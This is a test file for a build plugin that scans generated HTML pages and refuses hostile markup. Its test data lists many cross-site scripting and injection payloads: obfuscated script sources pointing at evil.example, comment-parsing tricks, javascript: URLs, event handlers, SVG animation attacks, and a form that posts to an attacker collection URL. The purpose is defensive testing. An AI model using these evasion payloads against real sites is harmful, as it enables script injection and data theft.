import {parse, type DefaultTreeAdapterMap} from 'parse5';
import {charsetEndByte, policyMetaTag, rewritePage, scanBuiltPage} from '../builtPage';
import type {PageLocation} from '../urlPolicy';

type Element = DefaultTreeAdapterMap['element'];

/** A Spanish page of https://site.example, as the security-headers plugin sees it. */
const PAGE: PageLocation = {
  pageUrl: new URL('https://site.example/es/docs/page.html'),
  scriptPrefix: '/es/assets/js/',
};
const THEME = '<script>theme()</script>';
const document = (head: string, body = '') =>
  `<!doctype html><html lang=es><head><meta charset=UTF-8><meta http-equiv=Content-Security-Policy content=SANCTUARY_CONTENT_SECURITY_POLICY>${head}</head><body>${THEME}${body}</body></html>`;
const rulesOf = (html: string) => scanBuiltPage(html, PAGE).findings.map((finding) => finding.rule);

// Every hostile element the build must refuse, by the rule that refuses it; each goes in the body unless it starts with "head:".
const HOSTILE: Array<[string, string]> = [
  // Scripts that are not the site's bundles, in every spelling.
  ['external-script', '<script src="https://evil.example/x.js"></script>'],
  ['external-script', '<script src=//evil.example/x.js></script>'],
  ['external-script', '<SCRIPT SRC="/\\evil.example/x.js"></SCRIPT>'],
  ['external-script', '<script src="\\\\evil.example/x.js"></script>'],
  ['external-script', '<script src="/\t/evil.example/x.js"></script>'],
  ['external-script', '<script src=" HTTPS://EVIL.EXAMPLE/x.js "></script>'],
  ['external-script', '<script src="data:text/javascript,alert(1)"></script>'],
  ['external-script', '<script src="/es/assets/js/../../evil.js"></script>'],
  ['external-script', '<script src="/es/assets/js/%2e%2e/%2e%2e/evil.js"></script>'],
  ['external-script', '<script src="/uploads/x.js"></script>'],
  ['external-script', '<script src="https://site.example/es/assets/js/main.js"></script>'],
  ['external-script', '<script type=module src=//evil.example/m.js></script>'],
  ['external-script', '<svg><script href="//evil.example/x.js"></script></svg>'],
  ['external-script', '<svg><script xlink:href="//evil.example/x.js"></script></svg>'],
  ['external-script', '<template><script src=//evil.example/x.js></script></template>'],
  ['external-script', 'head:<script src=//evil.example/x.js defer></script>'],
  // Markup a lenient parser would read as a comment, but a browser does not.
  ['external-script', '<!-- --!><script src=//evil.example/x.js></script>'],
  ['external-script', '<!--><script src=//evil.example/x.js></script>-->'],
  ['external-script', '<!---><script src=//evil.example/x.js></script>-->'],
  // Script types other than JavaScript and JSON data.
  [
    'script-type',
    '<script type=importmap>{"imports": {"a": "https://evil.example/a.js"}}</script>',
  ],
  [
    'script-type',
    '<script type=speculationrules>{"prefetch": [{"urls": ["https://evil.example/"]}]}</script>',
  ],
  ['script-type', '<script type="text/x-template"><b>x</b></script>'],
  ['script-type', '<script language=vbscript>msgbox 1</script>'],
  ['script-type', '<script type="text/javascript; charset=utf-8">x()</script>'],
  // A JSON data block closed early by a value (and the script it smuggles in is an extra inline script).
  ['json-data-block', '<script type="application/ld+json">{"name": "</script><p>x</p>'],
  ['json-data-block', '<script type=application/json>not json</script>'],
  // Refresh and base, in every case, spacing, quoting and entity spelling.
  ['meta-refresh', 'head:<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['meta-refresh', 'head:<META HTTP-EQUIV="Refresh" CONTENT=0>'],
  ['meta-refresh', "head:<meta http-equiv=' refresh ' content='1'>"],
  ['meta-refresh', 'head:<meta http-equiv="&#114;efresh" content="0">'],
  [
    'meta-refresh',
    '<noscript><meta http-equiv=refresh content="0;url=//evil.example/"></noscript>',
  ],
  ['base-element', 'head:<base href="https://evil.example/">'],
  ['base-element', 'head:<BASE target=_blank>'],
  // Remote resources, attribute by attribute.
  ['remote-resource', '<img src="https://evil.example/a.png">'],
  ['remote-resource', '<img src="//evil.example/a.png">'],
  ['remote-resource', '<img src="ht&#x74;ps://evil.example/a.png">'],
  ['remote-resource', '<img src="http://site.example/img/a.png">'],
  ['remote-resource', '<img src="/ok.png" srcset="/ok2.png 2x, https://evil.example/b.png 3x">'],
  ['remote-resource', '<img srcset="https://evil.example/c,d.png">'],
  [
    'remote-resource',
    '<picture><source srcset="//evil.example/d.webp"><img src=/ok.png></picture>',
  ],
  ['remote-resource', '<video poster="https://evil.example/p.png"></video>'],
  ['remote-resource', '<video src=//evil.example/v.mp4></video>'],
  ['remote-resource', '<audio><source src=//evil.example/a.mp3></audio>'],
  ['remote-resource', '<video><track src=//evil.example/t.vtt></video>'],
  ['remote-resource', '<input type=image src=//evil.example/i.png>'],
  ['remote-resource', '<table background="//evil.example/bg.png"></table>'],
  ['remote-resource', '<form action="https://evil.example/collect"></form>'],
  ['remote-resource', '<form><button formaction="https://evil.example/x">Send</button></form>'],
  [
    'remote-resource',
    '<a href="https://other.example/" ping="/ok https://evil.example/ping">x</a>',
  ],
  ['remote-resource', '<img src="blob:https://evil.example/1">'],
  ['remote-resource', 'head:<link rel=stylesheet href=https://evil.example/s.css>'],
  ['remote-resource', 'head:<link rel="ALTERNATE Stylesheet" href=//evil.example/s.css>'],
  ['remote-resource', 'head:<link rel=preload as=font href=//evil.example/f.woff2>'],
  ['remote-resource', 'head:<link rel=modulepreload href=//evil.example/m.js>'],
  ['remote-resource', 'head:<link rel=prefetch href=//evil.example/p>'],
  ['remote-resource', 'head:<link rel=dns-prefetch href=//evil.example>'],
  ['remote-resource', 'head:<link rel=preconnect href=https://evil.example>'],
  ['remote-resource', 'head:<link rel="shortcut icon" href=https://evil.example/favicon.ico>'],
  ['remote-resource', 'head:<link rel=manifest href=//evil.example/m.json>'],
  ['remote-resource', 'head:<link rel=preload as=image imagesrcset="//evil.example/i.png 1x">'],
  ['remote-resource', 'head:<link rel=something-new href=//evil.example/x>'],
  ['remote-resource', '<svg><image href="//evil.example/i.png"/></svg>'],
  ['remote-resource', '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>'],
  ['remote-resource', '<svg><filter><feImage href=//evil.example/f.png /></filter></svg>'],
  ['remote-resource', '<div style="background:url(//evil.example/a.png)"></div>'],
  ['remote-resource', '<div style="background:U\\52L(\'https://evil.example/a.png\')"></div>'],
  ['remote-resource', '<div style="background:\\75 rl(https://evil.example/a.png)"></div>'],
  [
    'remote-resource',
    '<div style="background-image:image-set(\'//evil.example/a.png\' 1x)"></div>',
  ],
  ['remote-resource', '<div style="background:url(&quot;//evil.example/a.png&quot;)"></div>'],
  ['remote-resource', 'head:<style>@import "//evil.example/s.css";</style>'],
  [
    'remote-resource',
    'head:<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}</style>',
  ],
  ['remote-resource', '<svg><style>@import url(//evil.example/s.css);</style></svg>'],
  ['remote-resource', '<noscript><img src="//evil.example/pixel.gif"></noscript>'],
  ['remote-resource', 'head:<noscript><link rel=stylesheet href=//evil.example/s.css></noscript>'],
  // data: where it is not an image.
  ['data-url', 'head:<link rel=stylesheet href="data:text/css,body{}">'],
  ['data-url', '<svg><use href="data:image/svg+xml,%3Csvg%3E%3C/svg%3E#a"/></svg>'],
  ['data-url', 'head:<style>@import url(data:text/css,body{});</style>'],
  // Frames and plugins.
  ['embedded-content', '<iframe src=//evil.example></iframe>'],
  ['embedded-content', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['embedded-content', '<object data=//evil.example/x.swf></object>'],
  ['embedded-content', '<embed src=//evil.example/x>'],
  ['embedded-content', '<iframe src="/es/docs/other"></iframe>'],
  // Code in addresses and attributes.
  ['script-url', '<a href="javascript:alert(1)">x</a>'],
  ['script-url', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['script-url', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['script-url', '<a href=" \njavascript:alert(1)">x</a>'],
  ['script-url', '<a href="vbscript:msgbox(1)">x</a>'],
  ['script-url', '<area href="javascript:alert(1)">'],
  ['script-url', '<form action="javascript:alert(1)"></form>'],
  ['script-url', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['script-url', '<math><mi href="javascript:alert(1)">x</mi></math>'],
  ['event-handler', '<img src=/ok.png onerror="alert(1)">'],
  ['event-handler', '<div ONCLICK=x()>x</div>'],
  ['event-handler', '<svg onload=alert(1)></svg>'],
  ['event-handler', '<details open ontoggle=alert(1)></details>'],
  [
    'svg-animation',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  ],
  [
    'svg-animation',
    '<svg><a><animate attributeName=xlink:href values="javascript:alert(1)"/></a></svg>',
  ],
];

describe('scanBuiltPage: hostile markup', () => {
  it('finds nothing in a page made only of allowed markup', () => {
    const head = [
      '<title>Page</title><meta name=referrer content=no-referrer>',
      '<link rel=canonical href="https://site.example/es/docs/page"><link rel=alternate hreflang=en href="https://other.example/">',
      '<link rel=alternate type=application/rss+xml href=/es/blog/rss.xml><link rel=icon href="/img/favicon.svg">',
      '<link rel=stylesheet href="/es/assets/css/styles.css"><script src="/es/assets/js/main.abc.js" defer></script>',
      '<script src="../assets/js/runtime.js" defer></script>',
      '<script type=application/ld+json>{"a":1}</script><script type="application/json">[1]</script>',
    ].join('');
    const body = [
      '<a href="https://other.example/page" target=_blank rel="noopener noreferrer">other site</a><a href="mailto:x@example.org">mail</a>',
      '<a href="tel:+16125550142">call</a><a download href="data:text/plain,hi">download</a><a href="#top">top</a>',
      '<img src="data:image/png;base64,AAAA"><img src="/img/x.png" srcset="/img/x2.png 2x"><img src="https://site.example/img/a.png">',
      '<img src="https:evil.example/a.png"><div style="background:url(data:image/svg+xml,%3Csvg%3E%3C/svg%3E);color:red"></div>',
      '<form action="/es/search" method=get><input name=q></form><svg><use href="#icon"/><a href="/es/docs/x"><text>x</text></a></svg>',
      '<p>Text about &lt;script src=//evil.example&gt; and onclick=, url(//evil.example) in prose.</p>',
      '<pre><code>&lt;meta http-equiv=refresh&gt;</code></pre>',
    ].join('');
    const scan = scanBuiltPage(document(head, body), PAGE);
    expect(scan.findings).toEqual([]);
    expect(scan.inlineScripts.map((script) => script.text)).toEqual(['theme()']);
  });

  it.each(HOSTILE)('refuses (%s) %s', (rule, snippet) => {
    const html = snippet.startsWith('head:') ? document(snippet.slice(5)) : document('', snippet);
    expect(rulesOf(html)).toContain(rule);
  });

  it('allows a preconnect hint, and nothing else, to an origin the maintainers let pages query (hosted search)', () => {
    const withSearch = {...PAGE, connectOrigins: new Set(['https://app-dsn.algolia.net'])};
    const rules = (head: string) =>
      scanBuiltPage(document(head), withSearch).findings.map((finding) => finding.rule);
    expect(
      rules(
        '<link rel=preconnect href=https://app-dsn.algolia.net crossorigin=anonymous><link rel=dns-prefetch href=//app-dsn.algolia.net>',
      ),
    ).toEqual([]);
    expect(rules('<link rel=stylesheet href=https://app-dsn.algolia.net/s.css>')).toEqual([
      'remote-resource',
    ]);
    expect(rules('<script src=https://app-dsn.algolia.net/x.js></script>')).toEqual([
      'external-script',
    ]);
    expect(rules('<link rel=preconnect href=https://evil.example>')).toEqual(['remote-resource']);
  });

  it('also returns a script smuggled out of a JSON data block, for the one-inline-script rule', () => {
    const html = document(
      '',
      '<script type="application/ld+json">{"name": "</script><script>alert(1)</script>"}</script>',
    );
    expect(scanBuiltPage(html, PAGE).inlineScripts.map((script) => script.text)).toEqual([
      'theme()',
      'alert(1)',
    ]);
  });

  it('reads every inline script as the browser hashes it, skipping data blocks', () => {
    const html = document(
      '<script>one()</script><script type="application/ld+json">{"a":1}</script>',
      '<script type=" Module ">two( "<b>" )</script><svg><script>three()</script></svg>',
    );
    expect(scanBuiltPage(html, PAGE).inlineScripts.map((script) => script.text)).toEqual([
      'one()',
      'theme()',
      'two( "<b>" )',
      'three()',
    ]);
  });

  it('reports each problem with its line, column, element and attribute, the value, why and how to fix it', () => {
    const html = document('', '\n<p>ok</p>\n  <img alt="" src="https://evil.example/track.gif">');
    const [finding] = scanBuiltPage(html, PAGE).findings;
    expect(finding).toEqual({
      line: 3,
      column: 15,
      field: '<img src>',
      rule: 'remote-resource',
      message:
        'src="https://evil.example/track.gif": The browser would request this from another site (evil.example), telling it who reads the page.',
      fix: expect.stringContaining('Serve the file from this site'),
      code: 'remote-resource.other-site',
      values: {host: 'evil.example', subject: 'src="https://evil.example/track.gif"'},
    });
  });

  it("names the script bundles' folder when a script is on the site but outside it", () => {
    const [finding] = scanBuiltPage(
      document('', '<script src="/uploads/x.js"></script>'),
      PAGE,
    ).findings;
    expect(finding!.message).toContain('a file outside /es/assets/js/');
    expect(finding!.fix).toContain('Bundle the code with the site');
  });
});

describe("scanBuiltPage: the page's own policy tag and charset", () => {
  it('says when the policy tag is missing or doubled, or the page has no <head> tag or no charset', () => {
    expect(
      rulesOf('<!doctype html><html><head><meta charset=UTF-8></head><body></body></html>'),
    ).toEqual(['csp-meta']);
    const twice =
      '<!doctype html><html><head><meta charset=UTF-8><meta http-equiv=content-security-policy content=a><meta http-equiv="Content-Security-Policy" content=b></head></html>';
    expect(scanBuiltPage(twice, PAGE).findings.map((finding) => finding.message)).toEqual([
      'The page has 2 Content-Security-Policy meta tags; the build writes exactly one.',
    ]);
    expect(
      rulesOf(
        '<!doctype html><meta charset=UTF-8><meta http-equiv=Content-Security-Policy content=x><p>no head tag</p>',
      ),
    ).toEqual(['csp-meta']);
    expect(
      rulesOf(
        '<!doctype html><html><head><meta http-equiv=Content-Security-Policy content=x></head></html>',
      ),
    ).toEqual(['charset']);
  });
});

/** The element children of a page's <head>, as a browser builds them. */
function headElements(html: string): Element[] {
  const htmlElement = parse(html).childNodes.find((node) => node.nodeName === 'html') as Element;
  const head = htmlElement.childNodes.find((node) => node.nodeName === 'head') as Element;
  return head.childNodes.filter((node): node is Element => 'tagName' in node);
}

describe('rewritePage', () => {
  const policy = "default-src 'self'; script-src 'self' 'sha256-abc='";
  const metaTag = policyMetaTag(policy);
  const original = [
    '<!doctype html><html lang=en class="docs-doc-id-x"><head><meta charset=UTF-8><meta name=generator content=Docusaurus>',
    '<title>T</title><meta http-equiv=Content-Security-Policy content=SANCTUARY_CONTENT_SECURITY_POLICY>',
    '<link rel=stylesheet href=/assets/css/a.css><script type="application/ld+json">{"name":"a & b <i>",\r\n"x":1}</script></head>',
    '<body><script>theme()</script><script type=application/json>{"ok":true}</script><p>é</p></body></html>',
  ].join('');

  it('puts the policy first in <head>, the charset right after it, escapes JSON data blocks and changes nothing else', () => {
    const scan = scanBuiltPage(original, PAGE);
    const rewritten = rewritePage(original, scan.plan, metaTag);
    expect(rewritten).toBe(
      [
        `<!doctype html><html lang=en class="docs-doc-id-x"><head>${metaTag}<meta charset=UTF-8><meta name=generator content=Docusaurus>`,
        '<title>T</title>',
        '<link rel=stylesheet href=/assets/css/a.css><script type="application/ld+json">{"name":"a \\u0026 b \\u003ci\\u003e",\r\n"x":1}</script></head>',
        '<body><script>theme()</script><script type=application/json>{"ok":true}</script><p>é</p></body></html>',
      ].join(''),
    );
    const head = headElements(rewritten);
    expect(head[0]!.attrs).toEqual([
      {name: 'http-equiv', value: 'Content-Security-Policy'},
      {name: 'content', value: policy},
    ]);
    expect(head[1]!.attrs).toEqual([{name: 'charset', value: 'UTF-8'}]);
  });

  it('gives the same page when run again (a rebuild, or the check run on a finished build)', () => {
    const once = rewritePage(original, scanBuiltPage(original, PAGE).plan, metaTag);
    expect(rewritePage(once, scanBuiltPage(once, PAGE).plan, metaTag)).toBe(once);
    expect(scanBuiltPage(once, PAGE).findings).toEqual([]);
  });

  it('says where the charset declaration ends, in bytes, so the build can keep it within the first 1024', () => {
    const plan = scanBuiltPage(original, PAGE).plan;
    const rewritten = rewritePage(original, plan, metaTag);
    expect(charsetEndByte(plan, metaTag)).toBe(
      Buffer.byteLength(rewritten.slice(0, rewritten.indexOf('<meta charset=UTF-8>') + 20)),
    );
  });

  it('refuses a text other than the one scanned', () => {
    const plan = scanBuiltPage(original, PAGE).plan;
    expect(() => rewritePage(`${original} `, plan, metaTag)).toThrow(
      'changed since it was scanned',
    );
  });

  it('escapes the policy for the attribute', () => {
    expect(policyMetaTag('a "b" & <c>')).toBe(
      '<meta http-equiv="Content-Security-Policy" content="a &quot;b&quot; &amp; &lt;c>">',
    );
  });
});
